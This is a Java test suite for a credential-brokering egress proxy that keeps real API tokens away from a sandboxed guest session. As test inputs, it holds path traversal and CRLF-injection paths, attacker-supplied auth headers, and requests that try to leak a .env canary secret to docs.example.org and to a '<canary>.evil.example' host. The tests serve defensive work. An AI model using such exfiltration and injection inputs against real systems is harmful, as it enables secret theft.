package dev.countersign.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpExchange;
import dev.countersign.domain.CountersignException;
import dev.countersign.domain.Entry;
import dev.countersign.domain.Fact;
import dev.countersign.domain.SessionId;
import dev.countersign.gate.approval.Approvals;
import dev.countersign.gate.approval.SecondFactor;
import dev.countersign.gate.policy.PolicySource;
import dev.countersign.gate.risk.RiskRater;
import dev.countersign.journal.Recorder;
import dev.countersign.secrets.Canaries;
import dev.countersign.secrets.PassphraseKeyStore;
import dev.countersign.secrets.Redactor;
import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.URI;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// A guest's raw requests at a session's own socket, a real key store, a real server behind TLS.
@Timeout(60)
class CredentialsTest {
    private static final RiskRater RISK = RiskRater.start();
    private static final SessionId SESSION = new SessionId("s-aaaaaa");
    private static final String REPOSITORY = "/src/project";
    private static final String VALUE = "realvalue-Zq7Lr2Xw9Tk4Bn8Mc3Vd6";

    private static final String CANARY = "k3vq7w2xnb5tzrm4ydjh6pfs2alc7gue3xqw5nbt";

    @TempDir static Path kept;
    private static @Nullable PassphraseKeyStore keys;
    private static java.security.@Nullable KeyStore certificate;

    @TempDir Path home;

    private final List<Fact> journal = new CopyOnWriteArrayList<>();
    private final List<String> served = new CopyOnWriteArrayList<>();
    private final List<String> left = new CopyOnWriteArrayList<>();
    private boolean diskFull;
    private final Recorder recorder =
            fact -> {
                if (diskFull) {
                    throw new CountersignException(
                            CountersignException.Kind.EXHAUSTED, "The disk is full.");
                }
                journal.add(fact);
                return new Entry(journal.size(), Clock.systemUTC().instant(), SESSION, 0, fact);
            };
    private final Redactor redactor = new Redactor();
    private @Nullable TlsServer server;
    private @Nullable Credentials credentials;
    private @Nullable SessionEgress network;
    private @Nullable Approvals approvals;

    @BeforeAll
    static void begin() throws Exception {
        // Deriving a key from a passphrase is slow on purpose: once is enough.
        keys = new PassphraseKeyStore(kept.resolve("keys"), new SecureRandom());
        keys.unlock("correct horse".toCharArray());
        certificate = TlsServer.certificate(kept);
    }

    @BeforeEach
    void open() throws Exception {
        server = new TlsServer(Objects.requireNonNull(certificate), this::serve);
        credentials =
                Credentials.open(
                        home.resolve("credentials.json"),
                        Objects.requireNonNull(keys),
                        new HostCommand(Duration.ofSeconds(20)));
        credentials.add(credential("code", List.of(), REPOSITORY), VALUE);
        listen("version: 1\n", "packages");
    }

    private void listen(String policy, String preset) throws Exception {
        Files.writeString(home.resolve("policy.yaml"), policy);
        approvals =
                new Approvals(
                        home.resolve("sessions"),
                        _ -> recorder,
                        new SecondFactor(home.resolve("2.json"), Clock.systemUTC(), new Random(3)),
                        Clock.systemUTC(),
                        new Random(1));
        network =
                SessionEgress.open(
                        socket(),
                        new Guest(preset),
                        new SessionEgress.Wiring(
                                PolicySource.open(
                                        home.resolve("policy.yaml"),
                                        home.resolve("last.yaml"),
                                        RISK,
                                        Clock.systemUTC(),
                                        _ -> {}),
                                Grants.open(home.resolve("session.json")),
                                Grants.open(home.resolve("grants.json")),
                                Objects.requireNonNull(approvals),
                                recorder,
                                Clock.systemUTC(),
                                SessionEgress.Registries.NONE,
                                SessionServers.of(
                                        SessionCredentials.open(
                                                home.resolve("placeholders.json"),
                                                Objects.requireNonNull(credentials),
                                                REPOSITORY,
                                                redactor,
                                                recorder),
                                        Objects.requireNonNull(server).trusting(),
                                        recorder),
                                new Canaries(
                                        Map.of(".env", CANARY),
                                        (canary, way, _) -> left.add(canary + " by " + way))));
    }

    private Path socket() {
        return home.resolve("egress.sock");
    }

    private Credential credential(String name, List<String> command, String repository) {
        return new Credential(
                name,
                URI.create("https://localhost:" + Objects.requireNonNull(server).port()),
                List.of("/user", "/repos/*/issues", "/files/**"),
                List.of("GET", "POST"),
                "bearer",
                command,
                "CODE_TOKEN",
                "CODE_URL",
                repository);
    }

    private record Guest(String preset) implements SessionEgress.Guest {
        @Override
        public SessionId id() {
            return SESSION;
        }

        @Override
        public int epoch() {
            return 0;
        }

        @Override
        public String repository() {
            return REPOSITORY;
        }

        @Override
        public Duration askTimeout() {
            return Duration.ZERO;
        }

        @Override
        public Optional<String> known(String host) {
            return Optional.empty();
        }

        @Override
        public @Nullable String lastCall() {
            return null;
        }
    }

    private void serve(HttpExchange exchange) throws IOException {
        String sent = String.join(",", TlsServer.got(exchange, "Authorization"));
        String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
        served.add(
                exchange.getRequestMethod() + " " + exchange.getRequestURI() + " " + sent + body);
        switch (exchange.getRequestURI().getPath()) {
            case "/files/echo" -> {
                exchange.getResponseHeaders().set("X-You-Sent", sent);
                exchange.getResponseHeaders().set("Set-Cookie", "a=b");
                TlsServer.answer(
                        exchange,
                        200,
                        "you sent %s, and %s\n"
                                .formatted(
                                        sent,
                                        Base64.getEncoder()
                                                .encodeToString(
                                                        sent.getBytes(StandardCharsets.UTF_8))));
            }
            case "/files/away" -> {
                exchange.getResponseHeaders().set("Location", "https://evil.example/x");
                TlsServer.answer(exchange, 302, "");
            }
            case "/files/packed" -> {
                exchange.getResponseHeaders().set("Content-Encoding", "gzip");
                TlsServer.answer(exchange, 200, "packed");
            }
            default -> TlsServer.answer(exchange, 200, "hello\n");
        }
    }

    @AfterEach
    void close() {
        Objects.requireNonNull(network).close();
        Objects.requireNonNull(approvals).close();
        Objects.requireNonNull(server).close();
    }

    @AfterAll
    static void end() {
        RISK.close();
    }

    private String placeholder() throws CountersignException {
        return Objects.requireNonNull(
                Objects.requireNonNull(network).issueCredentials().get("CODE_TOKEN"));
    }

    private String ask(String request) throws IOException {
        try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
            channel.connect(UnixDomainSocketAddress.of(socket()));
            channel.write(ByteBuffer.wrap(request.getBytes(StandardCharsets.ISO_8859_1)));
            ByteBuffer answer = ByteBuffer.allocate(1 << 20);
            while (channel.read(answer) >= 0) {
                // Until the proxy ends the connection.
            }
            return new String(answer.array(), 0, answer.position(), StandardCharsets.ISO_8859_1);
        }
    }

    private String get(String path, String... fields) throws IOException {
        return ask(
                "GET /o/api/code%s HTTP/1.1\r\nHost: 127.0.0.1:4101\r\n%s\r\n"
                        .formatted(
                                path,
                                Stream.of(fields)
                                        .map(field -> field + "\r\n")
                                        .collect(Collectors.joining())));
    }

    private String authorized() throws CountersignException {
        return "Authorization: Bearer " + placeholder();
    }

    @Test
    void P6_theServerGetsTheCredentialAndTheGuestNeverHasIt() throws Exception {
        String answer = get("/files/echo?page=2", authorized(), "Accept: text/plain");

        assertThat(served).containsExactly("GET /files/echo?page=2 Bearer " + VALUE);
        assertThat(answer)
                .startsWith("HTTP/1.1 200")
                .contains("you sent Bearer \u00e2\u009f\u00a8redacted:code")
                .doesNotContainIgnoringCase("set-cookie")
                .doesNotContain(VALUE);
        String packed =
                Base64.getEncoder()
                        .encodeToString(("Bearer " + VALUE).getBytes(StandardCharsets.UTF_8));
        assertThat(answer).doesNotContain(packed.substring(12, packed.length() - 4));
    }

    @Test
    void P5_aUseIsOnRecordBeforeItLeavesAndNothingLeavesThatIsNot() throws Exception {
        get("/user", authorized());
        assertThat(journal)
                .filteredOn(Fact.CredentialUsed.class::isInstance)
                .singleElement()
                .satisfies(fact -> {
                    Fact.CredentialUsed used = (Fact.CredentialUsed) fact;
                    assertThat(used.credential()).isEqualTo("code");
                    assertThat(used.method() + used.path().raw()).isEqualTo("GET/user");
                });
        assertThat(journal.toString()).doesNotContain(VALUE);
        assertThat(redactor.redact("x " + VALUE)).doesNotContain(VALUE);

        String header = authorized();
        diskFull = true;
        assertThat(get("/user", header)).contains("credential-unreadable");
        diskFull = false;
        assertThat(served).hasSize(1);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource({
        "/user, 200",
        "/user?x=1, 200",
        "/repos/a/issues, 200",
        "/repos/a/b/issues, credential-scope",
        "/repos//issues, request-malformed",
        "/repos/../user, request-malformed",
        "/files/../user, request-malformed",
        "/files/%2e%2e/user, request-malformed",
        "/files%2fx, request-malformed",
        "/files/%5cx, request-malformed",
        "/files/a%0d%0ab, request-malformed",
        "/Users, credential-scope",
        "/user/, credential-scope",
        "/user?access_token=x, guest-credential",
        "/user?a=1&api_key=x, guest-credential",
        "/files/a/b/c, 200",
    })
    void itIsForThePathsThatItNamesAndNoOthers(String path, String outcome) throws Exception {
        assertThat(get(path, authorized()).lines().limit(5).toList().toString()).contains(outcome);
        assertThat(served).hasSize(outcome.equals("200") ? 1 : 0);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Authorization: Bearer attackers-own-key-0123456789",
                "Cookie: session=1",
                "X-Api-Key: attackers",
                "Private-Token: attackers",
                "X-Goog-Api-Key: attackers",
                "Proxy-Authorization: Basic eDp5",
                "X-Session: 1",
            })
    void P6_aCredentialOfTheGuestsOwnIsRefused(String own) throws Exception {
        String header = authorized();
        String refused =
                own.startsWith("Authorization") ? get("/user", own) : get("/user", header, own);
        assertThat(refused).startsWith("HTTP/1.1 403").contains("guest-credential");
        assertThat(served).isEmpty();
    }

    @Test
    void aMethodThatItDoesNotNameAndARequestWithoutThePlaceholderAreRefused() throws Exception {
        String header = authorized();
        assertThat(
                        ask(
                                "DELETE /o/api/code/user HTTP/1.1\r\nHost: a\r\n%s\r\n\r\n"
                                        .formatted(header)))
                .contains("credential-scope");
        assertThat(get("/user")).contains("credential-missing");
        assertThat(ask("GET /o/api/other/user HTTP/1.1\r\nHost: a\r\n\r\n"))
                .contains("credential-unknown");
        assertThat(
                        ask(
                                "POST /o/api/code/user HTTP/1.1\r\nHost: a\r\n%s\r\nContent-Length: 3\r\n\r\nabc"
                                        .formatted(header)))
                .startsWith("HTTP/1.1 200");
        assertThat(
                        ask(
                                "POST /o/api/code/user HTTP/1.1\r\nHost: a\r\n%s\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
                                        .formatted(header)))
                .startsWith("HTTP/1.1 200");
        assertThat(served).allSatisfy(one -> assertThat(one).endsWith(VALUE + "abc")).hasSize(2);
    }

    @Test
    void P6_aRedirectIsNotFollowedAndAPackedAnswerNotHandedOver() throws Exception {
        assertThat(get("/files/away", authorized()))
                .startsWith("HTTP/1.1 302")
                .contains("https://evil.example/x");
        assertThat(get("/files/packed", authorized()))
                .startsWith("HTTP/1.1 502")
                .doesNotContain("packed\n");
        assertThat(served).hasSize(2);
    }

    @Test
    void theServerIsReachedNoOtherWayWhileTheGuestHasAPlaceholder() throws Exception {
        placeholder();
        int port = Objects.requireNonNull(server).port();
        assertThat(
                        ask(
                                "CONNECT localhost:%d HTTP/1.1\r\nHost: localhost:%d\r\n\r\n"
                                        .formatted(port, port)))
                .startsWith("HTTP/1.1 403")
                .contains("credential-brokered");
    }

    @Test
    void P6_whatWasRevokedIsWorthNothingUntilTheAgentStartsAgain() throws Exception {
        String header = authorized();
        Objects.requireNonNull(network).revokeCredentials("the session was frozen");
        assertThat(get("/user", header)).contains("credential-unknown");
        assertThat(journal)
                .contains(new Fact.CredentialRevoked(List.of("code"), "the session was frozen"));
        assertThat(get("/user", header, "X: y")).contains("credential-unknown");
        assertThat(authorized()).isNotEqualTo(header);
        assertThat(get("/user", authorized())).startsWith("HTTP/1.1 200");
        assertThat(get("/user", header)).contains("guest-credential");
        Objects.requireNonNull(credentials).remove("code");
        assertThat(get("/user", header)).contains("credential-unknown");
    }

    @Test
    void aNewEngineKnowsThePlaceholdersThatTheGuestHas() throws Exception {
        String header = authorized();
        Objects.requireNonNull(network).close();
        listen("version: 1\n", "packages");
        assertThat(get("/user", header)).startsWith("HTTP/1.1 200");
    }

    @ParameterizedTest(name = "{0} with the preset {1}: {2}")
    @CsvSource({
        "deny: [localhost], packages, rule-deny",
        "deny: [], locked, preset-locked",
        "'allow-private: [\"127.0.0.1:1\"]', packages, 200",
    })
    void policyIsStrongerThanACredential(String egress, String preset, String outcome)
            throws Exception {
        Objects.requireNonNull(network).close();
        listen("version: 1\negress: {%s}\n".formatted(egress), preset);
        assertThat(get("/user", authorized())).contains(outcome);
        assertThat(served).hasSize(outcome.equals("200") ? 1 : 0);
    }

    @Test
    void aCommandGivesTheValueAndItsOutputIsNowhere() throws Exception {
        Credentials all = Objects.requireNonNull(credentials);
        all.add(
                credential("code", List.of("printf", "from-command-%s\n", "Aa1Bb2Cc3"), REPOSITORY),
                null);
        assertThat(get("/user", authorized())).startsWith("HTTP/1.1 200");
        assertThat(served).containsExactly("GET /user Bearer from-command-Aa1Bb2Cc3");

        all.add(
                credential("code", List.of("sh", "-c", "echo topsecret; exit 3"), REPOSITORY),
                null);
        assertThat(get("/user", authorized()))
                .contains("credential-unreadable")
                .doesNotContain("topsecret");
        assertThatThrownBy(() -> all.value(all.all().getFirst()))
                .hasMessageContaining("ended with code 3")
                .hasMessageNotContaining("topsecret");
        all.add(credential("code", List.of("no-such-program-here"), REPOSITORY), null);
        assertThatThrownBy(() -> all.value(all.all().getFirst()))
                .hasMessageContaining("can't be started");
        assertThatThrownBy(() ->
                        new HostCommand(Duration.ofMillis(200))
                                .output(List.of("sh", "-c", "sleep 60")))
                .hasMessageContaining("did not end within");
    }

    @Test
    void theCredentialOfAnotherRepositoryIsNotGiven() throws Exception {
        Credentials all = Objects.requireNonNull(credentials);
        all.remove("code");
        all.add(credential("other", List.of(), "/src/other"), VALUE);
        assertThat(Objects.requireNonNull(network).issueCredentials()).isEmpty();
    }

    @Test
    void valuesLieEncryptedAndNamesAlone() throws Exception {
        assertThat(Files.readString(home.resolve("credentials.json")))
                .contains("\"code\"")
                .doesNotContain(VALUE);
        try (Stream<Path> files = Files.list(kept.resolve("keys"))) {
            for (Path file : files.toList()) {
                assertThat(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1))
                        .doesNotContain(VALUE);
            }
        }
        PassphraseKeyStore locked =
                new PassphraseKeyStore(kept.resolve("keys"), new SecureRandom());
        assertThatThrownBy(() -> locked.get("credential.code"))
                .hasMessageContaining("countersign credential unlock");
        assertThatThrownBy(() -> locked.unlock("another horse".toCharArray()))
                .hasMessageContaining("does not open");
        locked.unlock("correct horse".toCharArray());
        assertThat(locked.get("credential.code")).contains(VALUE.getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @CsvSource({
        "Bad, https://a.example, /**, GET, bearer, its name",
        "a, http://a.example, /**, GET, bearer, its address",
        "a, https://u:p@a.example, /**, GET, bearer, its address",
        "a, https://a.example/v1, /**, GET, bearer, its address",
        "a, https://a.example, x, GET, bearer, the path x",
        "a, https://a.example, /**/x, GET, bearer, the path",
        "a, https://a.example, /**, BREW, bearer, its methods",
        "a, https://a.example, /**, GET, cookie, it is put in as",
    })
    void whatCannotBeMeantIsRefused(
            String name, String url, String path, String method, String as, String says) {
        Credential wrong =
                new Credential(
                        name,
                        URI.create(url),
                        List.of(path),
                        List.of(method),
                        as,
                        List.of(),
                        null,
                        null,
                        null);
        assertThatThrownBy(() -> Objects.requireNonNull(credentials).add(wrong, "12345678"))
                .isInstanceOf(CountersignException.class)
                .hasMessageContaining(says);
    }

    @Test
    void theGuestFindsPlaceholderAndAddressInItsEnvironment() throws Exception {
        Map<String, String> environment = Objects.requireNonNull(network).issueCredentials();
        assertThat(environment)
                .containsEntry("CODE_URL", "http://127.0.0.1:4101/o/api/code")
                .containsOnlyKeys("CODE_URL", "CODE_TOKEN");
        assertThat(environment.get("CODE_TOKEN")).matches("placeholder-[0-9a-f]{40}");
    }

    @Test
    void aCanaryIsRefusedWhereverItWouldLeaveAndHoweverItIsWritten() throws Exception {
        String header = authorized();
        String base64 =
                Base64.getEncoder()
                        .encodeToString(("x=" + CANARY).getBytes(StandardCharsets.UTF_8));
        for (String request :
                List.of(
                        "GET http://docs.example.org/?q=%s HTTP/1.1\r\nHost: docs.example.org\r\n\r\n"
                                .formatted(CANARY),
                        "GET http://docs.example.org/ HTTP/1.1\r\nHost: docs.example.org\r\nX: %s\r\n\r\n"
                                .formatted(base64),
                        "CONNECT %s.evil.example:443 HTTP/1.1\r\nHost: %s.evil.example:443\r\n\r\n"
                                .formatted(CANARY, CANARY),
                        "GET /o/api/code/files/%s HTTP/1.1\r\nHost: a\r\n%s\r\n\r\n"
                                .formatted(CANARY, header),
                        "POST /o/api/code/user HTTP/1.1\r\nHost: a\r\n%s\r\nContent-Length: 50\r\n\r\n{\"token\":\"%s\"}"
                                .formatted(header, CANARY.substring(0, 38) + "zz"),
                        "POST /o/api/code/user HTTP/1.1\r\nHost: a\r\n%s\r\nContent-Length: 52\r\n\r\n{\"token\":\"%s\"}"
                                .formatted(header, CANARY))) {
            assertThat(ask(request)).as(request).doesNotContain("HTTP/1.1 500");
        }
        // The fifth holds a look-alike, and is not one.
        assertThat(left)
                .containsExactly(
                        ".env by egress",
                        ".env by egress",
                        ".env by egress",
                        ".env by egress",
                        ".env by api");
        assertThat(served).singleElement().asString().contains("zz");
        assertThat(journal.toString()).doesNotContain(CANARY);
    }
}
